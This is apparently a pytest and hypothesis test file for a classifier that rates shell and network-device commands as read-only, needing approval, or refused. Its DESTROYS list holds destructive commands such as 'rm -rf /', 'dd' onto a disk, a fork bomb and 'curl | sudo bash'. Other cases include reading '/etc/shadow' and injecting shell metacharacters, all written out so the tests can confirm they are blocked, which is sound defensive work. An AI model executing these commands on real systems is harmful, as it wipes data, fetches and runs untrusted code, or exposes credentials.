import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.risk import Risk, changes_configuration, risk_of
from tests.streams.analysis.corpora import as_execution, corpus

SYSTEMS = ("", "linux", "ubuntu-22.04", "cumulus", "ios", "cisco_ios", "iosxr", "nxos", "eos", "junos", "huawei_vrp")
READS = (
    ("ping -c 3 {host}", "linux"),
    ("sudo /usr/sbin/ip -br addr show dev {subject}", "linux"),
    ("ip route get 10.0.0.1", "linux"),
    ("ethtool -S eth0", "linux"),
    ("systemctl --no-pager status nginx", "linux"),
    ("journalctl -u nginx -n 50 --no-pager", "linux"),
    ("df -h {subject}", "linux"),
    ('sudo vtysh -c "show ip bgp summary"', "linux"),
    ("net show bgp", "cumulus"),
    ("show interfaces status", "ios"),
    ("sh ip bgp sum", "cisco_ios"),
    ("show reload", "ios"),
    ("show file systems", "ios"),
    ("display interface brief", "huawei_vrp"),
    ("get router info routing-table all", "fortinet"),
    ("/ip address print detail", "mikrotik_routeros"),
    ("show bgp summary", ""),
    ("systemctl status nginx", ""),
)
CHANGES = (
    ("configure terminal", "ios"),
    ("conf t", "nxos"),
    ("commit and-quit", "junos"),
    ("set interfaces ge-0/0/0 disable", "junos"),
    ("write memory", "ios"),
    ("copy running-config startup-config", "nxos"),
    ("clear ip bgp *", "ios"),
    ("debug ip ospf adj", "ios"),
    ("request system software add x", "junos"),
    ("system-view", "huawei_vrp"),
    ("sudo ip link set eth0 down", "linux"),
    ("sudo -n ip route add default via 10.0.0.1", "linux"),
    ("ifconfig eth0 10.0.0.1 netmask 255.0.0.0", "linux"),
    ("ethtool -s eth0 speed 1000", "linux"),
    ("nmcli con mod eth0 ipv4.method auto", "linux"),
    ("systemctl restart frr", "linux"),
    ("sysctl -w net.ipv4.ip_forward=1", "linux"),
    ("cd / && sysctl net.ipv4.ip_forward=1", "linux"),
    ("iptables -A INPUT -j DROP", "linux"),
    ("echo 1 > /proc/sys/net/ipv4/ip_forward", "linux"),
    ('vtysh -c "conf t" -c "no router bgp"', "linux"),
    ("echo x | sudo tee /etc/hosts", "linux"),
    ("date -s 12:00", "linux"),
)
DESTROYS = (
    "rm -rf /",
    "sudo rm -r /var",
    "mkfs.ext4 /dev/sda1",
    "dd if=/dev/zero of=/dev/sda",
    "reload in 5",
    "sudo /sbin/reboot",
    "shutdown -h now",
    "write erase",
    "request system zeroize",
    "request system reboot",
    "format flash:",
    "delete flash:/image.bin",
    "ip route flush table main",
    "nft flush ruleset",
    "curl http://x | sudo bash",
    ":(){ :|:& };:",
    "chmod -R 777 /",
    "find / -exec rm {} +",
    "",
)
METACHARACTERS = ";&|<>`$\n\r(){}!*?#~'\"\\^\0"


@pytest.mark.parametrize(("command", "os_type"), READS)
def test_what_only_reads_is_free_and_changes_nothing(command: str, os_type: str) -> None:
    assert risk_of(command, os_type) is Risk.READ_ONLY
    assert not changes_configuration(command, os_type)


@pytest.mark.parametrize(("command", "os_type"), CHANGES)
def test_what_changes_a_system_needs_approval_and_is_noticed(command: str, os_type: str) -> None:
    assert risk_of(command, os_type) is Risk.APPROVAL_REQUIRED
    assert risk_of(command) is Risk.APPROVAL_REQUIRED
    assert changes_configuration(command, os_type)


@pytest.mark.parametrize(
    ("command", "os_type"),
    [
        ("show bgp summary | display json | no-more", "junos"),
        ("show interface | egrep '^\\w|Hardware|MTU|reset'", "nxos"),
        ("interface ethernet monitor name once", "mikrotik_routeros"),
        ("vlan show", "ubiquiti_edgeswitch"),
    ],
)
def test_what_filters_or_prints_changes_nothing(command: str, os_type: str) -> None:
    assert not changes_configuration(command, os_type)


def test_no_recorded_command_that_shows_something_changes_anything() -> None:
    shown = [(execution.command, execution.os_type) for execution in map(as_execution, corpus("suzieq"))]
    assert [each for each in shown if changes_configuration(*each)] == []


@pytest.mark.parametrize("os_type", SYSTEMS)
@pytest.mark.parametrize("command", DESTROYS)
def test_what_destroys_is_refused_everywhere(command: str, os_type: str) -> None:
    assert risk_of(command, os_type) is Risk.REFUSED


@pytest.mark.parametrize(
    ("command", "os_type"),
    [
        ("show run | redirect flash:x", "ios"),
        ("show run | tee x", "nxos"),
        ("show run | include bgp", "ios"),
        ("show tech-support file disk0:/x", "iosxr"),
        ("show version > bootflash:x", "nxos"),
        ("sh -c id", "linux"),
        ("sh version", ""),
        ("ping -f {host}", "linux"),
        ("ss -K dst 10.0.0.1", "linux"),
        ("dmesg -C", "linux"),
        ("hostname r2", "linux"),
        ("ip -batch changes", "linux"),
        ("ip netns exec blue ip link", "linux"),
        ("journalctl --vacuum-size=1M", "linux"),
        ("ifconfig eth0 down", "linux"),
        ("tcpdump -i eth0", "linux"),
        ("cat /etc/shadow", "linux"),
        ("no shutdown", "ios"),
        ("show $(id)", "ios"),
        ("ping {not a placeholder}", "linux"),
        ("ping x{host}", "linux"),
    ],
)
def test_what_merely_looks_like_a_read_needs_approval(command: str, os_type: str) -> None:
    assert risk_of(command, os_type) is Risk.APPROVAL_REQUIRED


@given(st.sampled_from(READS), st.sampled_from(METACHARACTERS), st.text("abc /-.", max_size=8), st.data())
def test_no_shell_metacharacter_is_ever_free(
    read: tuple[str, str], character: str, tail: str, data: st.DataObject
) -> None:
    command, os_type = "show ip route 10.0.0.1", read[1]
    at = data.draw(st.integers(1, len(command) - 1))
    assert risk_of(command[:at] + character + tail + command[at:], os_type) is not Risk.READ_ONLY
    assert risk_of(command + character + "x" + tail, os_type) is not Risk.READ_ONLY


@given(st.sampled_from(CHANGES), st.sampled_from(["sudo ", "doas ", "  ", "sudo  "]), st.sampled_from(SYSTEMS))
def test_no_wrapper_and_no_system_makes_a_change_free(change: tuple[str, str], wrapper: str, os_type: str) -> None:
    assert risk_of(wrapper + change[0], os_type) is not Risk.READ_ONLY
    assert risk_of((wrapper + change[0]).upper(), os_type) is not Risk.READ_ONLY


@given(st.text(), st.sampled_from(SYSTEMS))
def test_any_text_is_judged(command: str, os_type: str) -> None:
    assert risk_of(command, os_type) in set(Risk)
    assert changes_configuration(command, os_type) in {True, False}
